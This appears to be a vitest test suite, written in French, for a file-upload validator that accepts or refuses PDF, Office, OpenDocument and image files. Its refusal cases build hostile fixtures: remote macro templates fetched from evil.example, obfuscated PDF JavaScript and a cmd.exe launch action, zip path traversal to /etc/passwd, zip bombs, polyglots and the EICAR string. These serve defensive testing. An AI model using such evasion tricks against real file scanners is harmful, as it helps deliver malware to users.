import { randomBytes } from "node:crypto";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateRawSync, deflateSync } from "node:zlib";
import fc from "fast-check";
import { PDFDocument as PDFDocumentLib } from "pdf-lib";
import PDFDocument from "pdfkit";
import { describe, expect, test } from "vitest";
import { examinerFichier } from "@/lib/integrations/type-fichier";
import { fluxPdf, pdf } from "@/tests/fixtures/fichiers/pdf";
import { docx, odt, ole, pptx, xlsx, zip } from "@/tests/fixtures/fichiers/zip";

const dossier = mkdtempSync(path.join(tmpdir(), "rigel-examen-"));
const examiner = async (nom: string, octets: Uint8Array): Promise<string> => {
  const chemin = path.join(dossier, "fichier");
  writeFileSync(chemin, octets);
  const examen = await examinerFichier(chemin, nom);
  return examen.ok ? "accepté" : examen.motif;
};

const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);
const jpg = Buffer.from([
  0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9,
]);
const programme = Buffer.concat([Buffer.from("MZ\u0090\u0000", "latin1"), Buffer.alloc(200)]);
const zeros = (mo: number) => Buffer.alloc(mo * 1_000_000);
/** Text that does not shrink like a bomb. */
const aleas = (mo: number) => randomBytes((mo * 1_000_000) / 2).toString("hex");
const MODELE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

const ACCEPTES: [string, string, Uint8Array][] = [
  ["un PDF", "a.pdf", pdf()],
  ["un PDF avec ses objets compressés", "a.pdf", pdf(fluxPdf("/Type /ObjStm /N 1 /First 4", "5 0 << /Type /Page >>"))],
  [
    "un PDF avec ses objets en clair",
    "a.pdf",
    pdf(fluxPdf("/Type /ObjStm /N 1 /First 4", "5 0 << /Type /Page >>", false)),
  ],
  [
    "un PDF à la façon d’Acrobat",
    "a.pdf",
    pdf(
      "<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>",
      "<</Title(Upstream)/Parent 3 0 R/First 7 0 R>>",
      fluxPdf("/Type/XRef/W[1 2 1]/Size 9/DecodeParms<</Columns 4/Predictor 12>>/ID[<6F626A><00>]", "0000"),
      fluxPdf("/Extends 9 0 R/First 4/N 1/Type/ObjStm", "5 0 << /Type /Page >>").replace(
        "/Filter /FlateDecode",
        "/Filter[/FlateDecode]",
      ),
    ),
  ],
  ["un PDF qui ouvre à sa deuxième page", "a.pdf", pdf("<< /OpenAction [5 0 R /Fit] >>")],
  [
    "un PDF qui porte ses données",
    "a.pdf",
    pdf("<< /Type /Filespec /F (dossier.json) >>", fluxPdf("/Type /EmbeddedFile", "{}")),
  ],
  [
    "un PDF dont une image contient « /JS » par hasard",
    "a.pdf",
    pdf(fluxPdf("/Subtype /Image", "..../JS <<....", false)),
  ],
  ["un document Word", "a.docx", docx()],
  [
    "un Word au modèle rangé sur le poste",
    "a.docx",
    docx({
      nom: "word/_rels/settings.xml.rels",
      contenu: `<Relationship Type="${MODELE}" Target="file:///C:/Modeles/Normal.dotx" TargetMode="External"/>`,
    }),
  ],
  [
    "un Word qui mène à un site",
    "a.docx",
    docx({
      nom: "word/_rels/document.xml.rels",
      contenu: '<Relationship Type="…/hyperlink" Target="https://education.gouv.fr" TargetMode="External"/>',
    }),
  ],
  [
    "un classeur de 30 Mo de cellules vides",
    "a.xlsx",
    xlsx({
      nom: "xl/worksheets/sheet1.xml",
      contenu: "<c r='A1'><v>12,5</v></c><c/>".repeat(600_000).replace(/12,5/g, (_, i: number) => String(i)),
    }),
  ],
  [
    "une présentation et le classeur de son graphique",
    "a.pptx",
    pptx({ nom: "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", contenu: xlsx() }),
  ],
  ["un document OpenDocument", "a.odt", odt()],
  ["une image", "a.png", png],
  ["une photo", "a.JPEG", jpg],
];

describe("ce qui est accepté", () => {
  test.each(ACCEPTES)("%s", async (_, nom, octets) => expect(await examiner(nom, octets)).toBe("accepté"));

  test("un PDF d’une vraie bibliothèque, aux objets compressés", async () => {
    const doc = await PDFDocumentLib.create();
    doc.setTitle("Upstream");
    for (let page = 0; page < 60; page += 1) doc.addPage().drawText(`Page ${page}`);
    const octets = await doc.save({ useObjectStreams: true });
    expect(Buffer.from(octets).toString("latin1").split("/ObjStm").length).toBeGreaterThan(2);
    expect(await examiner("a.pdf", octets)).toBe("accepté");
  });

  test("un PDF produit par une vraie bibliothèque, avec une pièce jointe", async () => {
    const doc = new PDFDocument();
    const morceaux: Buffer[] = [];
    doc.on("data", (m: Buffer) => morceaux.push(m));
    const fini = new Promise((resoudre) => doc.on("end", resoudre));
    doc.file(Buffer.from("{}"), { name: "rigel-dossier.json" });
    doc.text("Bonjour").end();
    await fini;
    expect(await examiner("a.pdf", Buffer.concat(morceaux))).toBe("accepté");
  });
});

const OBJETS_ACTIFS = "5 0 << /S /JavaScript /JS 6 0 R >>";
/** What is looked for only where objects are. */
const OBJETS_ACTIFS_JS = "5 0 << /S /Rendition /JS 6 0 R >>";
const blocsNonCompresses = (texte: string) => deflateSync(texte, { level: 0 });

const REFUSES: [string, string, Uint8Array, string][] = [
  // Macros
  ["un .docm", "a.docm", docx(), "macros"],
  [
    "un .xlsm nommé .xlsx",
    "a.xlsx",
    zip([
      {
        nom: "[Content_Types].xml",
        contenu:
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
      },
      { nom: "xl/workbook.xml", contenu: "<w/>" },
    ]),
    "macros",
  ],
  [
    "un .docx qui contient vbaProject.bin",
    "a.docx",
    docx({ nom: "word/vbaProject.bin", contenu: ole("_VBA_PROJECT") }),
    "macros",
  ],
  [
    "le même sous un autre nom",
    "a.docx",
    docx({ nom: "word/media/image1.bin", contenu: ole("_VBA_PROJECT") }),
    "macros",
  ],
  ["des macros Excel 4", "a.xlsx", xlsx({ nom: "xl/macrosheets/sheet1.xml", contenu: "<x/>" }), "macros"],
  ["un script OpenDocument", "a.odt", odt({ nom: "Scripts/python/a.txt", contenu: "1" }), "macros"],
  ["un contrôle ActiveX", "a.docx", docx({ nom: "word/activeX/activeX1.bin", contenu: "x" }), "macros"],
  ["un Word d’avant 2007 nommé .docx", "a.docx", ole("_VBA_PROJECT"), "format ancien"],
  ["un .doc", "a.doc", ole("WordDocument"), "format ancien"],
  [
    "un modèle à aller chercher",
    "a.docx",
    docx({
      nom: "word/_rels/settings.xml.rels",
      contenu: `<Relationship TargetMode="External" Target="https://evil.example/m.dotm" Type="${MODELE}"/>`,
    }),
    "macros",
  ],
  [
    "le même, sous un préfixe et en références de caractères",
    "a.docx",
    docx({
      nom: "word/_rels/settings.xml.rels",
      contenu: `<r:Relationship Target="&#104;ttp&#x73;://evil.example/m.dotm" Type="${MODELE.replace("T", "&#84;")}"/>`,
    }),
    "macros",
  ],
  [
    "le même, en UTF-16",
    "a.docx",
    docx({
      nom: "word/_rels/settings.xml.rels",
      contenu: Buffer.from(`\ufeff<Relationship Target="https://evil.example/m.dotm" Type="${MODELE}"/>`, "utf16le"),
    }),
    "abîmé",
  ],
  [
    "le même, au bout de relations démesurées",
    "a.docx",
    docx({
      nom: "word/_rels/settings.xml.rels",
      contenu: `${aleas(12)}<Relationship Target="https://evil.example/m.dotm" Type="${MODELE}"/>`,
    }),
    "démesuré",
  ],
  ["un nom de partie démesuré", "a.docx", docx({ nom: "vbaProject".repeat(6_000), contenu: "x" }), "abîmé"],
  [
    "un objet incorporé de n’importe quelle sorte",
    "a.docx",
    docx({ nom: "word/embeddings/oleObject1.bin", contenu: ole("Ole10Native") }),
    "macros",
  ],
  [
    "des macros dans le classeur incorporé",
    "a.pptx",
    pptx({ nom: "ppt/embeddings/b.xlsx", contenu: xlsx({ nom: "xl/vbaProject.bin", contenu: "x" }) }),
    "macros",
  ],
  // Programs
  ["un programme dans le document", "a.docx", docx({ nom: "word/media/image1.png", contenu: programme }), "programme"],
  ["un raccourci dans le document", "a.odt", odt({ nom: "Pictures/x.lnk", contenu: "x" }), "programme"],
  [
    "une archive cachée dans le document",
    "a.docx",
    docx({ nom: "word/media/image1.png", contenu: zip([{ nom: "a", contenu: "b" }]) }),
    "programme",
  ],
  [
    "des archives emboîtées",
    "a.pptx",
    pptx({ nom: "ppt/embeddings/a.xlsx", contenu: xlsx({ nom: "xl/embeddings/b.xlsx", contenu: xlsx() }) }),
    "programme",
  ],
  // Bombs
  ["une bombe de zéros", "a.docx", docx({ nom: "word/document2.xml", contenu: zeros(20) }), "démesuré"],
  [
    "une bombe en dix parties",
    "a.xlsx",
    xlsx(...Array.from({ length: 10 }, (_, i) => ({ nom: `xl/${i}.xml`, contenu: zeros(10) }))),
    "démesuré",
  ],
  [
    "une bombe dans le classeur incorporé",
    "a.pptx",
    pptx({ nom: "ppt/embeddings/b.xlsx", contenu: xlsx({ nom: "xl/a.xml", contenu: zeros(20) }) }),
    "démesuré",
  ],
  [
    "six mille parties",
    "a.docx",
    docx(...Array.from({ length: 6_000 }, (_, i) => ({ nom: `word/${i}.xml`, contenu: "" }))),
    "démesuré",
  ],
  [
    "une taille annoncée plus petite que la vraie",
    "a.docx",
    docx({ nom: "word/a.xml", contenu: zeros(9), tailleAnnoncee: 10 }),
    "abîmé",
  ],
  // Archives that lie
  ["un nom qui remonte", "a.docx", docx({ nom: "../../etc/passwd", contenu: "x" }), "abîmé"],
  ["un nom absolu", "a.docx", docx({ nom: "/etc/passwd", contenu: "x" }), "abîmé"],
  ["deux parties du même nom", "a.docx", docx({ nom: "word/document.xml", contenu: "<autre/>" }), "abîmé"],
  ["une partie chiffrée", "a.docx", docx({ nom: "word/a.xml", contenu: "x", chiffre: true }), "protégé"],
  ["un document coupé", "a.docx", docx().subarray(0, -40), "abîmé"],
  ["deux archives bout à bout", "a.docx", Buffer.concat([docx(), zip([{ nom: "a", contenu: "b" }])]), "abîmé"],
  // PDF
  ["un PDF avec JavaScript", "a.pdf", pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "action automatique"],
  ["le même, en détours", "a.pdf", pdf("<< /S /J#61v#61Script /J#53 (app.alert(1)) >>"), "action automatique"],
  [
    "le même, compressé",
    "a.pdf",
    pdf(fluxPdf("/Type /ObjStm /N 1 /First 4", "5 0 << /S /JavaScript /JS 6 0 R >>")),
    "action automatique",
  ],
  [
    "le même, caché derrière un faux flux",
    "a.pdf",
    pdf("(<<>>\nstream\n)", "<< /S /JavaScript /JS 6 0 R >>", "(endstream)"),
    "action automatique",
  ],
  ...(
    [
      ["en hexadécimal", "/Filter /ASCIIHexDecode", Buffer.from(OBJETS_ACTIFS).toString("hex")],
      ["en LZW", "/Filter /LZWDecode", "\u0080\u000b\u0060\u0050\u0022\u000c\u0000"],
      ["sous deux filtres", "/Filter [/ASCIIHexDecode /FlateDecode]", deflateSync(OBJETS_ACTIFS).toString("hex")],
      ["sous un filtre nommé ailleurs", "/Filter 9 0 R", deflateSync(OBJETS_ACTIFS)],
      ["sous un filtre en détours", "/Fi#6cter /LZWDecode", "x"],
      ["derrière un prédicteur", "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", deflateSync(OBJETS_ACTIFS)],
      ["dans un autre fichier", "/F (objets.bin) /FFilter /ASCIIHexDecode", "x"],
      ["sous un dictionnaire démesuré", `/Filter /FlateDecode${" ".repeat(5_000)}`, deflateSync(OBJETS_ACTIFS)],
      ["sous un dictionnaire à chaîne", "/Filter /LZWDecode /X (\n7 0 obj <<)", "x"],
      ["après un faux flux", "/Filter /LZWDecode /X (>>\nstream\nendstream)", "x"],
    ] as const
  ).map(([comment, filtre, octets]): [string, string, Uint8Array, string] => [
    `le même, compressé ${comment}`,
    "a.pdf",
    // The name comes last: what stands before it must be read too.
    pdf(fluxPdf(`${filtre} /N 1 /First 4 /Type /ObjStm`, octets, false)),
    "action automatique",
  ]),
  [
    "le même, compressé sous un dictionnaire démesuré qui commence par le type",
    "a.pdf",
    pdf(fluxPdf(`/Type /ObjStm /N 1 /First 4 /X [${"0 ".repeat(5_000)}]`, OBJETS_ACTIFS_JS)),
    "action automatique",
  ],
  [
    "le même, sous un type en détours",
    "a.pdf",
    pdf(fluxPdf("/Type /Obj#53tm /N 1 /First 4", OBJETS_ACTIFS_JS)),
    "action automatique",
  ],
  ["le même, sans type", "a.pdf", pdf(fluxPdf("/N 1 /First 4", OBJETS_ACTIFS_JS)), "action automatique"],
  [
    "le même, dans les octets d’une image",
    "a.pdf",
    pdf(
      fluxPdf(
        "/Subtype /Image",
        Buffer.from(`9 0 obj\n${fluxPdf("/Type /ObjStm /N 1 /First 4", OBJETS_ACTIFS_JS)}`, "latin1"),
        false,
      ),
    ),
    "action automatique",
  ],
  [
    "le même, après un faux mot de fin écrit dans la compression",
    "a.pdf",
    pdf(
      fluxPdf("/Type /ObjStm /N 1 /First 4", blocsNonCompresses(`5 0 (endstream) ${OBJETS_ACTIFS_JS}`), false).replace(
        "/N 1",
        "/N 1 /Filter /FlateDecode",
      ),
    ),
    "action automatique",
  ],
  [
    "un PDF qui lance un programme",
    "a.pdf",
    pdf("<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
    "action automatique",
  ],
  ["un formulaire XFA", "a.pdf", pdf("<< /AcroForm << /XFA 5 0 R >> >>"), "action automatique"],
  [
    "un PDF qui joint un programme",
    "a.pdf",
    pdf("<< /Type /Filespec /F (a.txt) >>", fluxPdf("/Type /EmbeddedFile", programme)),
    "programme",
  ],
  [
    "un PDF qui joint un script, nommé en UTF-16",
    "a.pdf",
    pdf(`<< /Type /Filespec /UF <FEFF${Buffer.from("a.vbs", "utf16le").swap16().toString("hex")}> >>`),
    "programme",
  ],
  ["un PDF chiffré", "a.pdf", pdf("<< /Encrypt 9 0 R >>"), "protégé"],
  ["un PDF coupé", "a.pdf", pdf().subarray(0, 60), "abîmé"],
  ["un PDF précédé d’autre chose", "a.pdf", Buffer.concat([Buffer.from("GIF89a"), pdf()]), "n’est pas accepté"],
  // Two in one
  [
    "un PDF suivi d’une archive",
    "a.pdf",
    Buffer.concat([pdf(), zip([{ nom: "a.class", contenu: "x" }])]),
    "deux formats",
  ],
  ["une image suivie d’une archive", "a.png", Buffer.concat([png, zip([{ nom: "a", contenu: "x" }])]), "deux formats"],
  ["une image suivie d’un script", "a.png", Buffer.concat([png, Buffer.from("<script>1</script>")]), "deux formats"],
  [
    "une photo au commentaire de script",
    "a.jpg",
    Buffer.concat([
      jpg.subarray(0, 20),
      Buffer.from("\u00ff\u00fe\u0000\u0020<script>alert(1)</script>", "latin1"),
      jpg.subarray(20),
    ]),
    "deux formats",
  ],
  [
    "un document qui est aussi un PDF",
    "a.odt",
    odt({ nom: "a.txt", contenu: "%PDF-1.7", stocke: true }),
    "deux formats",
  ],
  // Neither
  ["du HTML nommé PDF", "a.pdf", Buffer.from("<!doctype html><script>1</script>"), "n’est pas celui d’un fichier PDF"],
  [
    "un SVG",
    "a.svg",
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    "n’est pas accepté",
  ],
  ["un SVG nommé PNG", "a.png", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), "n’est pas accepté"],
  ["un GIF qui est aussi un script", "a.gif", Buffer.from("GIF89a=1;alert(1)//"), "n’est pas accepté"],
  ["une archive ordinaire", "a.zip", zip([{ nom: "a.txt", contenu: "x" }]), "n’est pas accepté"],
  ["un programme nommé PDF", "a.pdf", programme, "n’est pas celui d’un fichier PDF"],
  [
    "le fichier d’essai des antivirus",
    "eicar.pdf",
    Buffer.from("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
    "n’est pas accepté",
  ],
  ["une double extension", "rapport.pdf.exe", pdf(), "au format PDF"],
  ["un Word nommé PDF", "a.pdf", docx(), "au format DOCX"],
];

describe("ce qui est refusé, en une phrase", () => {
  test.each(REFUSES)("%s", async (_, nom, octets, phrase) => {
    const motif = await examiner(nom, octets);
    expect(motif).toContain(phrase);
    expect(motif).toMatch(new RegExp(`^« ${nom} » `));
    expect(motif.length).toBeLessThan(200);
  });
});

test("des relations faites pour durer sont lues aussi vite que les autres", async () => {
  const contenu = "<Relationship ".repeat(350_000);
  const debut = performance.now();
  expect(await examiner("a.docx", docx({ nom: "word/_rels/a.rels", contenu }))).toBe("accepté");
  expect(performance.now() - debut).toBeLessThan(5_000);
});

test("des parties raisonnables qui font ensemble un contenu démesuré sont arrêtées, vite et sans remplir la mémoire", async () => {
  const partie = zeros(4);
  const bombe = docx(...Array.from({ length: 70 }, (_, i) => ({ nom: `word/${i}.xml`, contenu: partie })));
  const avant = process.memoryUsage().rss;
  const debut = performance.now();
  expect(await examiner("a.docx", bombe)).toContain("démesuré");
  expect(performance.now() - debut).toBeLessThan(10_000);
  expect(process.memoryUsage().rss - avant).toBeLessThan(250_000_000);
});

test("des octets quelconques ne font jamais tomber l’examen", async () => {
  const debuts = [pdf(), docx(), odt(), png, jpg, Buffer.from("%PDF-1.7\n"), deflateRawSync("x")];
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...debuts),
      fc.nat(),
      fc.uint8Array({ maxLength: 300 }),
      fc.constantFrom("a.pdf", "a.docx", "a.odt", "a.png"),
      async (debut, position, ajout, nom) => {
        const ou = position % (debut.length + 1);
        const motif = await examiner(nom, Buffer.concat([debut.subarray(0, ou), ajout, debut.subarray(ou)]));
        expect(typeof motif).toBe("string");
      },
    ),
    { numRuns: 300 },
  );
});
